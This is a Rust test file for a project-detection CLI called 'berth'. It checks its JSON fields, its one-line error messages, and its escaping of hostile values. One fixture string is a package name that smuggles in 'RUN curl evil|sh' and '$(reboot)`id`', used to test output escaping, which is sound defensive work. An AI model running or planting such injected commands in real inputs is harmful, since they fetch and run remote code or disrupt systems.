//! Runs the built `berth detect` on fixtures and on bad inputs.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures")
        .join(name)
}

fn berth(args: &[&std::ffi::OsStr]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_berth"))
        .args(args)
        .output()
        .unwrap()
}

fn detect(path: &Path, json: bool) -> Output {
    let mut a = vec!["detect".as_ref(), path.as_os_str()];
    if json {
        a.push("--json".as_ref());
    }
    berth(&a)
}

#[test]
fn json_output_has_the_stable_fields() {
    let out = detect(&fixture("python-flask-redis"), true);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stack"], "python");
    assert_eq!(v["framework"], "flask");
    assert_eq!(v["package_manager"], "pip");
    assert_eq!(v["port"], 5000);
    assert_eq!(v["services"], serde_json::json!(["redis"]));
    assert_eq!(v["start_command"][0], "gunicorn");
    for key in [
        "language_version",
        "health_path",
        "manifests",
        "hints",
        "evidence",
    ] {
        assert!(v.get(key).is_some(), "missing {key}");
    }
}

#[test]
fn text_output_escapes_hostile_values() {
    let out = detect(&fixture("injection-node"), false);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains(r#"package_name = "evil\"name\nRUN curl evil|sh\n$(reboot)`id`""#),
        "{text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("RUN ")), "{text}");
    assert!(text.starts_with("stack             node\n"), "{text}");
}

fn assert_bad(out: &Output, kind_hint: &str) {
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = String::from_utf8(out.stderr.clone()).unwrap();
    assert_eq!(err.lines().count(), 1, "one line: {err:?}");
    assert!(err.starts_with("berth: "), "{err}");
    assert!(err.contains(kind_hint), "{err} should mention {kind_hint}");
    assert!(out.stdout.is_empty());
}

#[test]
fn bad_inputs_exit_2_with_one_line() {
    let dir = tempfile::tempdir().unwrap();
    assert_bad(
        &detect(&dir.path().join("missing"), true),
        "no such file or folder",
    );
    std::fs::write(dir.path().join("f.txt"), "x").unwrap();
    assert_bad(
        &detect(&dir.path().join("f.txt"), true),
        "is a file, not a folder",
    );
    assert_bad(&detect(dir.path(), false), "not a project Berth recognizes");
    assert_bad(
        &detect(&fixture("bad-package-json"), true),
        "package.json:5: trailing comma",
    );
    assert_bad(&detect(&fixture("bad-pom"), true), "pom.xml:7:");
    assert_bad(
        &detect(&fixture("bad-pyproject"), false),
        "pyproject.toml:5:",
    );
}
